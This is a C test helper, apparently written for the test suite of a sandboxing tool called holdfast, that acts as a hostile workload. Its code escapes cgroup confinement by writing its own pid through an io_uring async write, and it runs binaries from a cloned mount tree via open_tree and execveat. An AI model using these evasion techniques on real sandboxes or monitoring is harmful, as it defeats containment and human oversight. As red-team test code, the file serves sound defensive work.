// redteam2 does what a hostile workload does to get around holdfast's
// second-pass mechanisms, for redteam2_test.go.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static int fail(const char *what)
{
	printf("ERR %s: %s\n", what, strerror(errno));
	return 1;
}

// One io_uring operation, submitted and reaped; returns its result.
static int uring_op(const struct io_uring_sqe *tmpl)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	int rfd = syscall(__NR_io_uring_setup, 4, &p);
	if (rfd < 0)
		return -errno;
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP && cqsz > sqsz)
		sqsz = cqsz;
	char *sq = mmap(NULL, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -errno;
	char *cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -errno;
	}
	struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, rfd, IORING_OFF_SQES);
	if (sqes == MAP_FAILED)
		return -errno;
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	unsigned t = *tail, idx = t & mask;
	sqes[idx] = *tmpl;
	array[idx] = idx;
	__atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, rfd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	unsigned head = __atomic_load_n((unsigned *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
	unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return cqes[head & cmask].res;
}

// uring-move PROCS BIN ARG0: move this process by writing its pid to PROCS
// (a cgroup.procs file) from an io_uring worker (IOSQE_ASYNC), then exec
// BIN as ARG0.
static int uring_move_mode(char **argv)
{
	int fd = open(argv[0], O_WRONLY);
	if (fd < 0)
		return fail("open cgroup.procs");
	static char pid[32];
	int n = snprintf(pid, sizeof(pid), "%d\n", getpid());
	struct io_uring_sqe sqe;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_WRITE;
	sqe.flags = IOSQE_ASYNC;
	sqe.fd = fd;
	sqe.addr = (unsigned long)pid;
	sqe.len = n;
	sqe.off = -1;
	int r = uring_op(&sqe);
	if (r != n) {
		errno = r < 0 ? -r : EIO;
		return fail("io_uring write cgroup.procs");
	}
	printf("MOVED\n");
	char *args[] = {argv[2], NULL};
	execv(argv[1], args);
	return fail("execv");
}

// tree-exec DIR NAME ARG0: clone the mount at DIR as a detached tree
// (open_tree OPEN_TREE_CLONE) and exec NAME inside it (execveat).
static int tree_exec_mode(char **argv)
{
	int fd = syscall(SYS_open_tree, AT_FDCWD, argv[0], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE);
	if (fd < 0)
		return fail("open_tree");
	char *args[] = {argv[2], NULL};
	char *env[] = {NULL};
	syscall(SYS_execveat, fd, argv[1], args, env, 0);
	return fail("execveat");
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 5 && !strcmp(argv[1], "uring-move"))
		return uring_move_mode(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "tree-exec"))
		return tree_exec_mode(argv + 2);
	fprintf(stderr, "usage: redteam2 uring-move|tree-exec ARGS...\n");
	return 2;
}
